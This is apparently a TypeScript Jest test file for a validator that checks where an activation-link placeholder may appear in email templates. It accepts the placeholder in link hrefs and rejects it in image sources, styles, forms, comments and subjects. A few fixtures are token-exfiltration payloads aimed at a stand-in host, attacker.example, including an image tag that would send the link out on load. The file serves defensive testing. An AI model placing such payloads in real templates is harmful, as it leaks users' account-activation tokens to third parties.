import { misplacedLink } from '@server/templates/link-placement';
import { DEFAULT_TEMPLATES } from '@server/templates/defaults';

const inHtml = (html: string) => misplacedLink({ subject: 'Activate', html });

describe('where {{ link }} may stand', () => {
  it('allows it in the href of a link, whole or as part of the address', () => {
    expect(inHtml('<p><a href="{{ link }}">Activate</a></p>')).toBeNull();
    expect(inHtml('<a title="Activate" href="{{link}}&amp;source=mail">Activate</a>')).toBeNull();
    expect(
      inHtml('<p>{{ username }}, <a href="{{ platformUrl }}">{{ platformUrl }}</a></p>')
    ).toBeNull();
  });

  it('leaves {{ unsubscribeLink }} alone: fetching it changes nothing, and it only stops reminders', () => {
    expect(
      misplacedLink({
        subject: 'Unsubscribe: {{ unsubscribeLink }}',
        html: '<p>{{ unsubscribeLink }}</p>',
      })
    ).toBeNull();
  });

  it('lets every shipped default through', () => {
    for (const catalogue of Object.values(DEFAULT_TEMPLATES)) {
      for (const content of Object.values(catalogue)) expect(misplacedLink(content)).toBeNull();
    }
  });

  it.each(['{{ link }}', '{{link}}', '{{   link }}', 'Activate: {{ link }}'])(
    'refuses it in the subject, written %p',
    (subject) => {
      expect(misplacedLink({ subject, html: '<p>x</p>' })).toEqual({
        path: 'subject',
        place: 'the subject',
      });
    }
  );

  it.each([
    ['<img src="https://attacker.example/p?{{ link }}">', 'the src of <img>'],
    ['<img src="{{link}}">', 'the src of <img>'],
    ['<img srcset="{{ link }} 1x">', 'the srcset of <img>'],
    ['<table><tr><td background="{{ link }}">x</td></tr></table>', 'the background of <td>'],
    ['<p style="background:url({{ link }})">x</p>', 'the style of <p>'],
    ['<a href="{{ link }}" style="background:url(\'{{ link }}\')">x</a>', 'the style of <a>'],
    ['<a href="https://x.example" title="{{ link }}">x</a>', 'the title of <a>'],
    ['<div data-next="{{ link }}">x</div>', 'the data-next of <div>'],
    ['<form action="{{ link }}"></form>', 'the action of <form>'],
    ['<link rel="stylesheet" href="{{ link }}">', 'the href of <link>'],
    ['<area href="{{ link }}">', 'the href of <area>'],
    ['<p>Or copy {{ link }}</p>', 'the text of <p>'],
    [
      '<a href="https://attacker.example/?t={{ link }}">x</a>',
      'an href that does not start with it',
    ],
    ['<a href="{{ link }}">{{ link }}</a>', 'the text of <a>'],
    ['{{ link }}', 'the HTML text'],
    ['<style>p { background: url({{ link }}) }</style>', 'the text of <style>'],
    ['<!-- {{ link }} -->', 'an HTML comment'],
    ['<img {{link}}>', 'the markup of <img>'],
  ])('refuses %s', (html, place) => {
    expect(inHtml(html)).toEqual({ path: 'html', place });
  });

  it('reads the HTML as a mail client does: entities decoded, text taken whole', () => {
    expect(inHtml('<img src="&#123;&#123; link &#125;&#125;">')).toEqual({
      path: 'html',
      place: 'the src of <img>',
    });
    expect(inHtml('<p>{{ li&#110;k }}</p>')).toEqual({ path: 'html', place: 'the text of <p>' });
    expect(inHtml('<IMG SRC="{{ link }}">')).toEqual({ path: 'html', place: 'the src of <img>' });
  });

  it('is about {{ link }} only', () => {
    expect(inHtml('<p style="color:red">{{ username }} {{ linked }}</p>')).toBeNull();
    expect(misplacedLink({ subject: '{{ platformName }}', html: '' })).toBeNull();
  });
});
